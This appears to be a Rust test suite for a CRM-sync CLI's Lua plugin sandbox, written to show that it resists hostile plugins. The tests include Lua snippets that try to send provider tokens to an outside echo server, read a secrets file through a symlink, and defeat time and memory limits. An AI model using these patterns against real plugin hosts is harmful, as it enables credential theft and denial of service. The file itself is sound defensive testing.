//! Plugins are untrusted code, and the network is not always what it claims: each test here is
//! an attack (or a misbehaving answer) tried through the `hubforce` binary against the
//! simulator, as a consultant's client would meet it — a script under `hubforce run`, a hook
//! during `hubforce sync`, the REPL. The attacks themselves are Lua files in `tests/attacks/`.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use common::Connected;
use common::cli::{enable, hf, hf_capped, plugin};
use serde_json::{Value, json};

/// A server on 127.0.0.1 that answers anything with the request's own headers and counts
/// connections: where a stolen token would land.
struct Echo {
    url: String,
    connections: Arc<AtomicUsize>,
}

fn echo_server() -> Echo {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let connections = Arc::new(AtomicUsize::new(0));
    let seen = connections.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            seen.fetch_add(1, Ordering::SeqCst);
            let mut stream = stream;
            let mut buf = [0u8; 8192];
            let n = stream.read(&mut buf).unwrap_or(0);
            let body = json!({"echo": String::from_utf8_lossy(&buf[..n])}).to_string();
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    Echo { url, connections }
}

fn attack(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/attacks")
        .join(name)
        .display()
        .to_string()
}

/// The value of one of the simulator's secrets in `.hubforce/sim.env`.
fn sim_secret(c: &Connected, key: &str) -> String {
    let env = std::fs::read_to_string(c.dir.join(".hubforce/sim.env")).expect("sim.env");
    env.lines()
        .find_map(|l| l.strip_prefix(&format!("{key}=")))
        .expect("secret")
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lua_requests_reach_only_the_providers_own_api() {
    let c = common::connected("hostile-reach").await;
    let echo = echo_server();
    let control = c.sim.ready_info().control.clone();
    std::fs::write(
        c.dir.join("steal.lua"),
        r#"
local echo, control = arg[1], arg[2]
local out = {}
local function try(name, f)
  local ok, e = pcall(f)
  out[name] = ok and "sent" or tostring(e)
end
try("hubspot_elsewhere", function() return hubspot.request("GET", echo .. "/x") end)
try("salesforce_elsewhere", function() return salesforce.request("GET", echo .. "/services/data") end)
try("control_api", function() return hubspot.request("POST", control .. "/revoke-refresh-tokens", {}) end)
try("own_api", function() return hubspot.request("GET", "/crm/v3/owners") end)
return out
"#,
    )
    .expect("script");
    let r = hf(&c.dir, &["run", "steal.lua", &echo.url, &control]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let out: Value = serde_json::from_str(&r.stdout).expect("JSON");
    for name in ["hubspot_elsewhere", "salesforce_elsewhere", "control_api"] {
        let e = out[name].as_str().unwrap_or_default();
        assert!(e.contains("is not the provider's API"), "{name}: {e}");
    }
    assert_eq!(out["own_api"], "sent");

    let r = hf(
        &c.dir,
        &[
            "repl",
            "-e",
            &format!("hubspot.request('GET', '{}/').headers", echo.url),
        ],
    )
    .await;
    assert_ne!(r.code, Some(0));
    assert!(r.all().contains("not the provider's API"), "{}", r.all());

    // The same from hooks during a sync: the sync goes on, the token goes nowhere.
    plugin(
        &c,
        "thief",
        "",
        &format!(
            r#"
local tried = false
return {{
  on_sync_start = function() hubspot.request("GET", "{echo}/start") end,
  include = function(record)
    if not tried then tried = true pcall(salesforce.request, "GET", "{echo}/include") end
    return nil
  end,
}}
"#,
            echo = echo.url
        ),
    );
    enable(&c, &["thief"], "");
    let r = hf(&c.dir, &["sync", "--objects", "company"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    assert!(r.stderr.contains("not the provider's API"), "{}", r.stderr);
    assert_eq!(
        echo.connections.load(Ordering::SeqCst),
        0,
        "nothing reached the foreign server"
    );
    let stats = c.control_get("/stats").await;
    assert!(
        !stats.to_string().contains("revoke-refresh-tokens"),
        "the control API was not reached"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn require_stays_in_the_plugin_folder_and_never_echoes_a_file() {
    let c = common::connected("hostile-require").await;
    plugin(
        &c,
        "leaky",
        "",
        "return { include = function(record) return require('secret') end }",
    );
    std::os::unix::fs::symlink(
        c.dir.join(".hubforce/sim.env"),
        c.dir.join("plugins/leaky/secret.lua"),
    )
    .expect("symlink");
    enable(&c, &["leaky"], "");
    let secret = sim_secret(&c, "SIM_HUBSPOT_CLIENT_SECRET");
    let sync = hf(&c.dir, &["sync", "--objects", "contact"]).await;
    let errors = hf(&c.dir, &["errors", "--class", "plugin"]).await;
    assert!(
        errors.stdout.contains("leads outside plugins/leaky"),
        "{}",
        errors.all()
    );
    let ledger = std::fs::read(c.dir.join(".hubforce/sim/ledger.sqlite")).expect("ledger");
    for (what, text) in [
        ("sync", sync.all()),
        ("errors", errors.all()),
        ("ledger", String::from_utf8_lossy(&ledger).into_owned()),
    ] {
        assert!(!text.contains(&secret[..12]), "{what} holds the secret");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn time_limits_hold_against_code_written_to_defeat_them() {
    let c = common::connected("hostile-time").await;
    let stopped = [
        ("pcall_loop.lua", "time limit of 1000 ms exceeded"),
        ("xpcall_loop.lua", "time limit of 1000 ms exceeded"),
        ("coroutine_loop.lua", "time limit of 1000 ms exceeded"),
        ("pattern_backtrack.lua", "time limit of 1000 ms exceeded"),
        ("tostring_loop.lua", "time limit of 1000 ms exceeded"),
        ("move_range.lua", "time limit of 1000 ms exceeded"),
        ("lying_len.lua", "time limit of 1000 ms exceeded"),
        ("gc_finalizer.lua", "__gc finalizers are not available"),
    ];
    for (file, why) in stopped {
        let r = hf(&c.dir, &["run", "--time-limit", "1", &attack(file)]).await;
        assert_eq!(r.code, Some(8), "{file}: {}", r.all());
        assert!(r.stderr.contains(why), "{file}: {}", r.stderr);
        assert!(r.took < Duration::from_secs(15), "{file} took {:?}", r.took);
    }
    let r = hf(
        &c.dir,
        &["run", "--time-limit", "1", &attack("rep_empty.lua")],
    )
    .await;
    assert_eq!((r.code, r.stdout.trim()), (Some(0), "0"), "{}", r.all());

    // The same attacks as a sync's include hook, one record each, under call_ms = 200.
    let bodies: Vec<String> = stopped
        .iter()
        .map(|(file, _)| {
            let source = std::fs::read_to_string(attack(file)).expect("attack");
            format!("function() {source}\nend")
        })
        .collect();
    plugin(
        &c,
        "spinner",
        "limits = { call_ms = 200 }",
        &format!(
            "local attacks = {{ {} }}\nlocal n = 0\nreturn {{ include = function(record)\n  n = n + 1\n  local a = attacks[n]\n  if a then a() end\n  return nil\nend }}\n",
            bodies.join(",\n")
        ),
    );
    enable(&c, &["spinner"], "");
    let r = hf(&c.dir, &["sync", "--objects", "contact"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    assert!(
        r.took < Duration::from_secs(60),
        "the sync took {:?}",
        r.took
    );
    let errors = hf(&c.dir, &["errors", "--class", "plugin", "--json"]).await;
    let list: Value = serde_json::from_str(&errors.stdout).expect("JSON");
    let messages: Vec<&str> = list
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|e| e["message"].as_str())
        .collect();
    assert_eq!(messages.len(), stopped.len(), "{messages:?}");
    let timed = messages
        .iter()
        .filter(|m| m.contains("time limit of 200 ms exceeded"))
        .count();
    assert_eq!(timed, stopped.len() - 1, "{messages:?}");
    assert!(
        messages
            .iter()
            .all(|m| m.contains("plugins/spinner/init.lua:")),
        "each names its line: {messages:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memory_attacks_fail_with_a_plugin_error_not_an_abort() {
    let c = common::connected("hostile-memory").await;
    // Enough for the host and a script's 512 MiB, not for what the attacks would take.
    let ceiling = 1_500_000;
    for file in ["json_dag.lua", "return_dag.lua"] {
        let r = hf_capped(&c.dir, ceiling, &["run", &attack(file)]).await;
        assert_eq!(r.code, Some(8), "{file}: {}", r.all());
        assert!(
            r.stderr.contains("more than 512 MiB as JSON"),
            "{file}: {}",
            r.stderr
        );
    }
    // A 3 GB answer is refused as it streams in.
    c.control(
        "/faults",
        json!({"provider": "hubspot", "kind": "huge", "route": "/crm/v3/owners"}),
    )
    .await;
    let r = hf_capped(
        &c.dir,
        ceiling,
        &["api", "hubspot", "GET", "/crm/v3/owners"],
    )
    .await;
    assert_eq!(r.code, Some(7), "{}", r.all());
    assert!(r.stderr.contains("larger than 64 MiB"), "{}", r.stderr);
    c.control_delete("/faults").await;

    // A hook returning a table of shared tables: a record error, and the sync goes on.
    plugin(
        &c,
        "hoarder",
        "",
        "local n = 0\nreturn { transform = function(record)\n  n = n + 1\n  if n > 1 then return nil end\n  local t = { 1 }\n  for _ = 1, 30 do t = { a = t, b = t } end\n  return { Description = t }\nend }\n",
    );
    enable(&c, &["hoarder"], "");
    let r = hf_capped(&c.dir, ceiling, &["sync", "--objects", "contact"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let errors = hf(&c.dir, &["errors", "--class", "plugin"]).await;
    assert!(
        errors.stdout.contains("more than 64 MiB as JSON"),
        "{}",
        errors.all()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hook_that_calls_the_api_in_a_loop_is_capped_per_pass() {
    let c = common::connected("hostile-loop").await;
    let chatty = "return { on_sync_start = function()\n  for _ = 1, 500 do pcall(hubspot.request, 'GET', '/crm/v3/owners') end\nend }\n";
    plugin(&c, "chatty", "", chatty);
    enable(&c, &["chatty"], "");
    // Every attempt that reached HubSpot, from the request log (a retried 429 is two).
    let sent = |c: &Connected| {
        hubforce::store::RequestLog::open(&c.dir.join(".hubforce/sim/requests.sqlite"))
            .expect("log")
            .summary(24)
            .iter()
            .filter(|s| s.caller == "plugin:chatty")
            .map(|s| s.calls)
            .sum::<u64>()
    };
    let r = hf(&c.dir, &["sync", "--objects", "company"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    assert_eq!(sent(&c), 100, "the default cap");
    // The manifest may ask for more.
    plugin(&c, "chatty", "limits = { calls_per_pass = 150 }", chatty);
    let r = hf(&c.dir, &["sync", "--objects", "company"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    assert_eq!(sent(&c), 250);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_manifest_may_only_lower_its_limits() {
    let c = common::connected("hostile-limits").await;
    plugin(&c, "greedy", "limits = { memory_mb = 512 }", "return {}");
    plugin(&c, "unbounded", "limits = { memory_mb = 0 }", "return {}");
    plugin(
        &c,
        "forever",
        "limits = { call_ms = 18446744073709551615 }",
        "return {}",
    );
    enable(&c, &["greedy", "unbounded", "forever"], "");
    let r = hf(&c.dir, &["plugin", "list"]).await;
    let text = r.all();
    assert!(
        text.contains("limits.memory_mb = 512 is above this profile's ceiling of 64"),
        "{text}"
    );
    assert!(text.contains("memory_mb = 0 is out of range"), "{text}");
    assert!(text.contains("call_ms"), "{text}");
    // The profile may raise the ceiling for a plugin it trusts.
    enable(
        &c,
        &["greedy"],
        "plugin_limits.greedy = { memory_mb = 1024 }\n",
    );
    let r = hf(&c.dir, &["plugin", "list", "--json"]).await;
    let list: Value = serde_json::from_str(&r.stdout).expect("JSON");
    let greedy = list
        .as_array()
        .into_iter()
        .flatten()
        .find(|p| p["name"] == "greedy")
        .cloned()
        .unwrap_or_default();
    assert_eq!(greedy["status"], "active", "{list}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_answers_are_never_success_and_no_cursor_moves_past_them() {
    let c = common::connected("hostile-garbage").await;
    enable(&c, &[], "");
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    // Changed on both sides before the bad answers come.
    let hs = c.session.hubspot.as_ref().expect("hubspot");
    hs.create(
        "contacts",
        json!({"email": "window@garbage.example", "firstname": "Win", "lastname": "Dow",
               "company": "Garbage Co", "lifecyclestage": "lead"}),
    )
    .await
    .expect("contact");
    let sf = c.session.salesforce.as_ref().expect("salesforce");
    sf.create(
        "Lead",
        json!({"LastName": "Lane", "Company": "Garbage Co", "Email": "lane@garbage.example"}),
    )
    .await
    .expect("lead");
    for (provider, route, body, label) in [
        (
            "hubspot",
            "/contacts/search",
            "{\"results\": \"not a list\"}",
            "on POST /crm/v3/objects/contacts/search",
        ),
        (
            "hubspot",
            "/companies/search",
            "",
            "on POST /crm/v3/objects/companies/search",
        ),
        (
            "salesforce",
            "/query",
            "{\"totalSize\": 3}",
            "on GET /services/data/v62.0/query",
        ),
    ] {
        c.control(
            "/faults",
            json!({"provider": provider, "kind": "garbage", "route": route, "body": body}),
        )
        .await;
        let r = hf(&c.dir, &["sync"]).await;
        assert_eq!(r.code, Some(6), "{provider} {route}: {}", r.all());
        assert!(r.stderr.contains("GARBAGE_ANSWER"), "{}", r.stderr);
        assert!(r.stderr.contains(label), "{label}: {}", r.stderr);
        let faults: Value = c.control_get("/faults").await;
        let fired = faults["faults"][0]["fired"].as_u64().unwrap_or(0);
        assert!(fired > 1, "the garbage was retried: {faults}");
        c.control_delete("/faults").await;
    }
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let leads = sf
        .query("SELECT Id FROM Lead WHERE Email = 'window@garbage.example'")
        .await
        .expect("query");
    assert_eq!(leads.len(), 1, "the contact of the garbage window synced");
    let found = hs
        .search_page(
            "contacts",
            json!({"filterGroups": [{"filters": [{"propertyName": "email", "operator": "EQ", "value": "lane@garbage.example"}]}], "limit": 10}),
        )
        .await
        .expect("search")
        .0;
    assert_eq!(found.len(), 1, "the Lead of the garbage window synced");

    // A redirect names where it points; a 100 KB id is a mistake, not a network problem.
    c.control(
        "/faults",
        json!({"provider": "hubspot", "kind": "redirect", "route": "/owners",
               "location": "https://login.example.com/sso?token=abc"}),
    )
    .await;
    let r = hf(&c.dir, &["api", "hubspot", "GET", "/crm/v3/owners"]).await;
    assert_eq!(r.code, Some(3), "{}", r.all());
    assert!(
        r.stderr
            .contains("a redirect (HTTP 302) to https://login.example.com/sso;"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("token=abc"), "{}", r.stderr);
    c.control_delete("/faults").await;
    let long = format!("/crm/v3/objects/contacts/{}", "1".repeat(100_000));
    let r = hf(&c.dir, &["api", "hubspot", "GET", &long]).await;
    assert_eq!(r.code, Some(7), "{}", &r.stderr[..r.stderr.len().min(500)]);
    assert!(r.stderr.contains("URL_TOO_LONG"), "{}", &r.stderr[..500]);
    assert!(r.stderr.len() < 2_000, "the error does not echo the id");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_activity_task_is_a_record_error_that_resync_logs() {
    let c = common::connected("hostile-activity").await;
    enable(
        &c,
        &[],
        "[profiles.sim.sync]\nobjects = [\"company\", \"contact\"]\n",
    );
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let ledger = hubforce::sync::ledger::Ledger::open(&c.dir.join(".hubforce/sim/ledger.sqlite"))
        .expect("ledger");
    let linked: Vec<String> = (1..=400)
        .map(|i| i.to_string())
        .filter(|id| ledger.linked_sf("contact", id).ok().flatten().is_some())
        .take(3)
        .collect();
    assert_eq!(linked.len(), 3, "three linked contacts");
    for id in &linked {
        c.control(
            "/activity",
            json!({"contact_id": id, "kind": "form_submission", "name": "Pricing form"}),
        )
        .await;
    }
    c.control(
        "/faults",
        json!({"provider": "salesforce", "kind": "partial_batch", "route": "/composite/sobjects/Task",
               "fraction": 1.0, "code": "FIELD_CUSTOM_VALIDATION_EXCEPTION"}),
    )
    .await;
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let errors = hf(&c.dir, &["errors", "--json"]).await;
    let list: Value = serde_json::from_str(&errors.stdout).expect("JSON");
    let activity: Vec<&Value> = list
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| {
            e["message"]
                .as_str()
                .is_some_and(|m| m.contains("form submission as a Salesforce Task"))
        })
        .collect();
    assert_eq!(activity.len(), 3, "{list}");
    c.control_delete("/faults").await;
    let r = hf(&c.dir, &["resync"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let sf = c.session.salesforce.as_ref().expect("salesforce");
    let tasks = sf
        .query("SELECT Id FROM Task WHERE Subject = 'Form submission: Pricing form'")
        .await
        .expect("query");
    assert_eq!(tasks.len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grant_refused_on_both_sides_names_both_and_status_knows() {
    let c = common::connected("hostile-revoked").await;
    enable(&c, &[], "");
    c.control("/revoke-refresh-tokens", json!({})).await;
    c.control("/expire-tokens", json!({})).await;
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(3), "{}", r.all());
    assert!(
        r.stderr
            .contains("`hubforce connect hubspot` and `hubforce connect salesforce`"),
        "{}",
        r.stderr
    );
    let s = hf(&c.dir, &["status"]).await;
    assert_eq!(
        s.stdout.matches("the grant was refused at").count(),
        2,
        "{}",
        s.stdout
    );
    assert!(!s.stdout.contains("expires in"), "{}", s.stdout);
    hubforce::connect::connect_sim_both(&c.session)
        .await
        .expect("reconnect");
    let s = hf(&c.dir, &["status"]).await;
    assert!(!s.stdout.contains("refused"), "{}", s.stdout);
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn processes_on_one_profile_refresh_once_and_keep_a_valid_grant() {
    let c = common::connected("hostile-rotation").await;
    c.control(
        "/settings",
        json!({"hubspot": {"rotate_refresh_tokens": true}, "salesforce": {"rotate_refresh_tokens": true}}),
    )
    .await;
    for round in 0..2 {
        c.control("/expire-tokens", json!({})).await;
        let mut runs = Vec::new();
        for _ in 0..8 {
            runs.push(hf(&c.dir, &["api", "hubspot", "GET", "/crm/v3/owners"]));
            runs.push(hf(&c.dir, &["api", "salesforce", "GET", "limits"]));
        }
        for r in futures_util::future::join_all(runs).await {
            assert_eq!(r.code, Some(0), "round {round}: {}", r.stderr);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn state_files_are_the_users_alone() {
    use std::os::unix::fs::PermissionsExt;
    let c = common::connected("hostile-modes").await;
    enable(&c, &[], "");
    let r = hf(&c.dir, &["sync", "--objects", "company"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let r = hf(&c.dir, &["repl", "-e", "store.set('k', 1)"]).await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let state = c.dir.join(".hubforce/sim");
    let mode = |p: &Path| std::fs::metadata(p).expect("exists").permissions().mode() & 0o777;
    assert_eq!(mode(&state), 0o700);
    for f in std::fs::read_dir(&state).expect("state").flatten() {
        assert_eq!(mode(&f.path()), 0o600, "{}", f.path().display());
    }
    for f in ["ledger.sqlite", "requests.sqlite", "store.sqlite"] {
        assert!(state.join(f).exists(), "{f}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stores_belong_to_one_plugin_path_and_the_repl_keeps_its_own() {
    let c = common::connected("hostile-stores").await;
    let report =
        "return { checks = function(report) report.info('seen ' .. tostring(store.get('k'))) end }";
    plugin(&c, "a/shared", "", report);
    plugin(&c, "b/shared", "", report);
    plugin(&c, "repl", "", report);
    enable(&c, &["a/shared", "b/shared", "repl"], "");
    let r = hf(&c.dir, &["plugin", "list"]).await;
    assert!(
        r.all()
            .contains("plugins/b/shared and plugins/a/shared are both named `shared`"),
        "{}",
        r.all()
    );
    assert_eq!(r.code, Some(1), "a plugin in ERROR: {}", r.all());
    let r = hf(
        &c.dir,
        &["repl", "-e", "store.set('k', 'typed in the REPL')"],
    )
    .await;
    assert_eq!(r.code, Some(0), "{}", r.all());
    let r = hf(&c.dir, &["check", "repl", "--no-roundtrip"]).await;
    assert_eq!(r.code, Some(8), "b/shared does not load: {}", r.all());
    let r = hf(
        &c.dir,
        &["check", "repl", "--no-roundtrip", "--skip-broken-plugins"],
    )
    .await;
    assert!(r.stdout.contains("seen nil"), "{}", r.all());
    assert!(!r.all().contains("typed in the REPL"), "{}", r.all());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn configuration_mistakes_stop_with_what_and_where() {
    let c = common::connected("hostile-config").await;
    common::default_plugin::copy_default_plugin(&c.dir);
    let toml = c.dir.join("hubforce.toml");
    let original = std::fs::read_to_string(&toml).expect("config");
    let with = |from: &str, to: &str| {
        assert!(original.contains(from), "{from}");
        std::fs::write(&toml, original.replacen(from, to, 1)).expect("config");
    };
    with(
        "plugins = []",
        "plugins = [\"default\", \"examples/northwind\"]\n\n[profiles.sim.plugin.northwind]\nmin_stage = \"lead\"",
    );
    let r = hf(&c.dir, &["sync"]).await;
    assert_eq!(r.code, Some(1), "{}", r.all());
    assert!(
        r.stderr
            .contains("plugin.northwind configures a plugin this profile does not enable"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("\"examples/northwind\""), "{}", r.stderr);

    with(
        "plugins = []",
        "plugins = [\"default\"]\n\n[profiles.sim.sync]\nwatch_interval_secs = 0",
    );
    let r = hf(&c.dir, &["sync", "--watch"]).await;
    assert_eq!(r.code, Some(1), "{}", r.all());
    assert!(
        r.stderr.contains("watch_interval_secs must be between 1"),
        "{}",
        r.stderr
    );

    let secret = sim_secret(&c, "SIM_HUBSPOT_CLIENT_SECRET");
    with(
        "client_secret = { env = \"SIM_HUBSPOT_CLIENT_SECRET\" }",
        &format!("client_secret = \"{secret}\""),
    );
    let r = hf(&c.dir, &["status"]).await;
    assert_eq!(r.code, Some(1), "{}", r.all());
    assert!(
        r.stderr
            .contains("secrets are not written in hubforce.toml"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("line "), "{}", r.stderr);
    assert!(!r.all().contains(&secret[..8]), "{}", r.all());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_garbage_look_up_is_an_error_never_no_match() {
    // "No candidates" would make the sync create a second record of someone it has.
    let c = common::connected("hostile-lookup").await;
    let default = hubforce::plugins::PluginSet::load(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("plugins")
            .as_path(),
        None,
        &["default".to_string()],
        &Default::default(),
    );
    let declared = hubforce::sync::hooks::Hooks::pairs(&default).expect("pairs");
    let spec = &hubforce::sync::pairs::PairSpec::new("contact", declared["contact"].clone());
    let hs = c.session.hubspot.as_ref().expect("hubspot");
    let email = hs
        .list_page("contacts", &["email"], None, 1)
        .await
        .expect("a contact")
        .0[0]["properties"]["email"]
        .as_str()
        .expect("email")
        .to_string();
    let groups = [("email", vec![email])];
    let found = hubforce::sync::lookup::hs_search_any(hs, spec, &[], &groups)
        .await
        .expect("search");
    assert_eq!(found.len(), 1);
    c.control(
        "/faults",
        json!({"provider": "hubspot", "kind": "garbage", "route": "/contacts/search", "body": "{}"}),
    )
    .await;
    let e = hubforce::sync::lookup::hs_search_any(hs, spec, &[], &groups)
        .await
        .expect_err("garbage");
    assert_eq!(e.code.as_deref(), Some("GARBAGE_ANSWER"), "{e}");
    c.control(
        "/faults",
        json!({"provider": "salesforce", "kind": "garbage", "route": "/composite", "body": "{\"compositeResponse\": [{\"httpStatusCode\": 200, \"body\": {}}, {\"httpStatusCode\": 200, \"body\": {}}]}", "count": 1}),
    )
    .await;
    let hs_record = hubforce::sync::records::HsRecord::from_json(
        json!({"id": "1", "properties": {"email": "someone@example.com"}}),
        "lastmodifieddate",
    )
    .expect("record");
    let sf = c.session.salesforce.as_ref().expect("salesforce");
    let targets = [
        ("Contact", vec!["Id".to_string(), "Email".to_string()]),
        ("Lead", vec!["Id".to_string(), "Email".to_string()]),
    ];
    // The composite's garbage bodies are asked again one by one, which answer properly.
    let got = hubforce::sync::lookup::sf_candidates(sf, spec, &targets, &[&hs_record])
        .await
        .expect("candidates");
    assert!(got.is_empty());
    let faults: Value = c.control_get("/faults").await;
    assert_eq!(
        faults["faults"].as_array().map(Vec::len),
        Some(1),
        "{faults}"
    );
}
